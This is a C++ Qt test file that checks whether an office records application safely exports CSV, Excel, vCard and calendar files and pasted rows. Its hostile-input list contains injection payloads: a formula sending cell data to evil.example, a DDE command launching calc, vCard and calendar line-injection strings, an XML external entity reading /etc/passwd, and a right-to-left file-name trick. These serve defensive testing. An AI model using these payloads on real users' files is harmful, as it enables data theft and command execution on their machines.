// SPDX-License-Identifier: GPL-3.0-or-later
// What people or their files put into an office to harm those who take it out: formulas for spreadsheets, lines for
// cards and calendars.
#include <exchange/csv.h>
#include <exchange/exporting.h>
#include <exchange/tableimport.h>
#include <query/zipparts.h>
#include <record/recordtype.h>
#include <workbookreader.h>

#include <QFile>
#include <QTemporaryDir>

using namespace pd;
using namespace Qt::StringLiterals;

namespace {

const QDate today(2026, 3, 2);

QString english(const Text &text)
{
    return Language::of(u"en"_s).text(text);
}

/// Texts that some program would run, or take for the beginning of something else.
QStringList hostileTexts()
{
    return {u"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_s,
            u"=cmd|' /C calc'!A0"_s,
            u"+1+1"_s,
            u"-2+3"_s,
            u"@SUM(A1:A9)"_s,
            u"\t=1+1"_s,
            u"\r=1+1"_s,
            u"\n=1+1"_s,
            u"  =1+1"_s,
            u"\u00a0=1+1"_s,
            u"\u200b=1+1"_s,
            u"＝1+1"_s,
            u"＋1+1"_s,
            u"－1+1"_s,
            u"＠SUM(1)"_s,
            u"\u22121+1"_s,
            u"'=1+1"_s,
            u"''=1+1"_s,
            u"'''@x"_s,
            u"\"=1+1"_s,
            u"a\",=1+1,\""_s,
            u"a;=1+1"_s,
            u"a\r\n=1+1"_s,
            u"a\r\nEND:VCARD\r\nBEGIN:VCARD\r\nTEL:+1 666"_s,
            u"a\rTEL:+1 666"_s,
            u"a\nEND:VEVENT\nBEGIN:VALARM\nACTION:PROCEDURE"_s,
            u"a\u2028TEL:+1 666"_s,
            u"a\u0085TEL:+1 666"_s,
            u"a;b,c\\d\\ne"_s,
            u"<b>x</b><img src=file:///etc/passwd>"_s,
            u"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;"_s,
            u"]]><f>1+1</f>"_s,
            u"{=1+1}"_s,
            u"\u0001\u0008\u001b[2J"_s,
            u"\u202egnp.exe"_s,
            QString(300, u'协')};
}

QByteArray contentOf(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

/// What a spreadsheet sees when it looks for a formula.
bool isRun(const QString &cell)
{
    const QString seen = cell.trimmed();
    if (seen.isEmpty())
        return false;
    bool isNumber = false;
    cell.toDouble(&isNumber);
    return !isNumber && u"=+-@＝＋－＠"_s.contains(seen.front());
}

} // namespace

class TestHostile : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void apostrophes_data();
    void apostrophes();
    void csv();
    void workbook();
    void cards();
    void calendars();
    void pasted();
    void languageOfAName_data();
    void languageOfAName();

private:
    Result<int> write(Kind kind, const QString &path) const
    {
        ListQuery query;
        query.kind = kind;
        query.today = today;
        return exportRecords(*m_office, query, path, {.language = {}, .day = today, .filters = hostileTexts()});
    }
    QString path(const char *name) const { return m_folder.filePath(QLatin1String(name)); }

    QTemporaryDir m_folder;
    std::unique_ptr<Office> m_office;
};

void TestHostile::initTestCase()
{
    auto office = Office::create(path("office.pdesk"));
    QVERIFY(office);
    m_office = std::move(*office);
    ChangeSet set;
    for (const QString &text : hostileTexts()) {
        const Names names{{u"en"_s, NameKind::Official, text}, {u"zh"_s, NameKind::Alias, text}};
        Record partner;
        partner.names = names;
        partner.set(u"type"_s, u"fund"_s);
        partner.set(u"notes"_s, text);
        partner.set(u"latitude"_s, -5.5);
        const RecordId id = set.add(partner);
        Record person;
        person.kind = Kind::Person;
        person.names = names;
        person.set(u"notes"_s, text);
        person.set(u"contacts"_s, Rows{Row{{u"way"_s, Value(u"phone"_s)}, {u"value"_s, Value(text)}},
                                       Row{{u"way"_s, Value(u"address"_s)}, {u"value"_s, Value(text)}},
                                       Row{{u"way"_s, Value(u"wechat"_s)}, {u"value"_s, Value(text)}}});
        person.set(u"positions"_s, Rows{Row{{u"organisation"_s, Value(id)}, {u"title"_s, Value(text)}, {u"unit"_s, Value(text)}}});
        set.add(person);
        Record task;
        task.kind = Kind::FollowUp;
        task.names = names;
        task.set(u"notes"_s, text);
        task.set(u"due"_s, PartialDate(QDate(2026, 3, 31)));
        set.add(task);
    }
    const auto applied = m_office->apply(set);
    QVERIFY2(applied, applied ? "" : qPrintable(english(applied.error().message) + applied.error().detail));
}

void TestHostile::apostrophes_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QString>("safe");
    const auto row = [](const char *name, const QString &cell, const QString &safe) {
        QTest::newRow(name) << cell << safe;
    };
    row("a text", u"University"_s, u"University"_s);
    row("nothing", u""_s, u""_s);
    row("a formula", u"=1+1"_s, u"'=1+1"_s);
    row("a number", u"-5.5"_s, u"-5.5"_s);
    row("a number with a plus", u"+5"_s, u"+5"_s);
    row("a small number", u"-1e-07"_s, u"-1e-07"_s);
    row("a number and a line end", u"-5\n"_s, u"'-5\n"_s);
    row("a phone number", u"+7 900 123"_s, u"'+7 900 123"_s);
    row("infinity", u"-inf"_s, u"'-inf"_s);
    row("a dash in front", u"- first point"_s, u"'- first point"_s);
    row("a dash inside", u"2025-017"_s, u"2025-017"_s);
    row("a long dash", u"– none"_s, u"– none"_s);
    row("blanks before it", u"  =1"_s, u"'  =1"_s);
    row("a tab", u"\tx"_s, u"'\tx"_s);
    row("full width", u"＝1"_s, u"'＝1"_s);
    row("quoted", u"'quoted'"_s, u"'quoted'"_s);
    row("marked already", u"'=1"_s, u"''=1"_s);
    row("marked twice", u"''=1"_s, u"'''=1"_s);
}

void TestHostile::apostrophes()
{
    QFETCH(QString, cell);
    QFETCH(QString, safe);
    QCOMPARE(harmlessCell(cell), safe);
    QCOMPARE(plainCell(safe), cell);
    QCOMPARE(plainCell(harmlessCell(safe)), safe);
}

void TestHostile::csv()
{
    QVERIFY(write(Kind::Organisation, path("list.csv")));
    QFile file(path("list.csv"));
    QVERIFY(file.open(QIODevice::ReadOnly));
    CsvReader reader(&file);
    QSet<QString> back;
    int rows = 0;
    for (auto row = reader.next(); row && *row; row = reader.next(), ++rows) {
        for (const QString &cell : **row) {
            QVERIFY2(!isRun(cell), qPrintable(cell));
            back.insert(plainCell(cell));
        }
    }
    QCOMPARE(rows, hostileTexts().size() + 1);
    for (const QString &text : hostileTexts())
        QVERIFY2(back.contains(text), text.toUtf8().toPercentEncoding().constData());
}

/// Texts are texts there: a cell of another type is what runs.
void TestHostile::workbook()
{
    QVERIFY(write(Kind::Organisation, path("list.xlsx")));
    const auto all = parts(path("list.xlsx"));
    QVERIFY(all.contains(u"xl/worksheets/sheet1.xml"_s));
    for (auto part = all.begin(); part != all.end(); ++part) {
        QVERIFY2(!part->contains("<f>") && !part->contains("<f "), qPrintable(part.key()));
        QVERIFY2(!part->contains("TargetMode=\"External\""), qPrintable(part.key()));
        QVERIFY2(!part->contains("<!ENTITY"), qPrintable(part.key()));
    }
    const auto table = openTable(path("list.xlsx"), {});
    QVERIFY2(table, table ? "" : qPrintable(english(table.error().message)));
    QSet<QString> back;
    int rows = 0;
    for (auto row = table->rows->next(); row && *row; row = table->rows->next(), ++rows)
        for (const QString &cell : **row)
            back.insert(cell);
    QCOMPARE(rows, hostileTexts().size() + 1);
    QVERIFY(back.contains(hostileTexts().first()) && back.contains(u"@SUM(A1:A9)"_s));
}

void TestHostile::cards()
{
    const auto written = write(Kind::Person, path("people.vcf"));
    QVERIFY2(written, written ? "" : qPrintable(english(written.error().message)));
    const QByteArray text = contentOf(path("people.vcf"));
    QVERIFY(QByteArray(text).replace("\r\n", "").count('\r') == 0 && QByteArray(text).replace("\r\n", "").count('\n') == 0);
    int cards = 0;
    static const QSet<QByteArray> known{"BEGIN", "VERSION", "KIND", "FN", "N", "EMAIL", "TEL", "ADR", "IMPP", "ORG",
                                        "TITLE", "LANG", "NOTE", "UID", "END"};
    for (const QByteArray &line : text.split('\n')) {
        QVERIFY2(line.size() <= 76 && QString::fromUtf8(line).toUtf8() == line, line.constData());
        for (const char c : line.chopped(line.endsWith('\r') ? 1 : 0))
            QVERIFY2(quint8(c) >= 0x20 || c == '\t', line.constData());
        if (line.startsWith(' ') || line.isEmpty())
            continue;
        const qsizetype end = std::min(size_t(line.indexOf(':')), size_t(line.indexOf(';')));
        QVERIFY2(known.contains(line.left(end)), line.constData());
        cards += line.startsWith("BEGIN:VCARD");
    }
    QCOMPARE(cards, *written);
    QCOMPARE(text.count("END:VCARD\r\n"), qsizetype(*written));
}

void TestHostile::calendars()
{
    const auto written = write(Kind::FollowUp, path("due.ics"));
    QVERIFY2(written, written ? "" : qPrintable(english(written.error().message)));
    QCOMPARE(*written, int(hostileTexts().size()));
    const QByteArray text = contentOf(path("due.ics"));
    static const QSet<QByteArray> known{"BEGIN", "VERSION", "PRODID", "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY",
                                        "DESCRIPTION", "LOCATION", "END"};
    int events = 0;
    for (const QByteArray &line : text.split('\n')) {
        const QByteArray plain = line.endsWith('\r') ? line.chopped(1) : line;
        for (const char c : plain)
            QVERIFY2(quint8(c) >= 0x20 || c == '\t', line.constData());
        if (plain.startsWith(' ') || plain.isEmpty())
            continue;
        const qsizetype end = std::min(size_t(plain.indexOf(':')), size_t(plain.indexOf(';')));
        QVERIFY2(known.contains(plain.left(end)), line.constData());
        QVERIFY2(!plain.startsWith("BEGIN:") || plain == "BEGIN:VCALENDAR" || plain == "BEGIN:VEVENT", line.constData());
        events += plain == "BEGIN:VEVENT";
    }
    QCOMPARE(events, *written);
}

void TestHostile::pasted()
{
    for (const QString &text : hostileTexts()) {
        const QString row = pastedRow({u"first"_s, text, u"last"_s});
        const QByteArray where = text.toUtf8().toPercentEncoding();
        QCOMPARE(row.count(u'\t'), 2);
        QCOMPARE(row.count(u'\n'), 1);
        QVERIFY2(!row.contains(u'\r'), where.constData());
        const QString cell = row.section(u'\t', 1, 1);
        QVERIFY2(!isRun(cell), where.constData());
        QVERIFY2(!cell.startsWith(u'"') || (cell.endsWith(u'"') && cell.count(u'"') % 2 == 0), where.constData());
    }
}

void TestHostile::languageOfAName_data()
{
    QTest::addColumn<QString>("language");
    QTest::addColumn<bool>("isOne");
    const auto row = [](const char *language, bool isOne) {
        QTest::newRow(language) << QString::fromUtf8(language) << isOne;
    };
    row("en", true);
    row("zh-Hant", true);
    row("zh-Latn-pinyin", true);
    row("", false);
    row("e", false);
    row("en;TYPE=work", false);
    row("en\r\nTEL:1", false);
    row("en\n", false);
    row("русский", false);
    row("../../en", false);
}

void TestHostile::languageOfAName()
{
    QFETCH(QString, language);
    QFETCH(bool, isOne);
    Record source;
    source.kind = Kind::Source;
    source.names = {{language, NameKind::Official, u"A"_s}};
    QCOMPARE(!problems(source).contains(u"names"_s), isOne);
}

PD_WORKBOOK_TEST_MAIN(TestHostile)
#include "tst_hostile.moc"
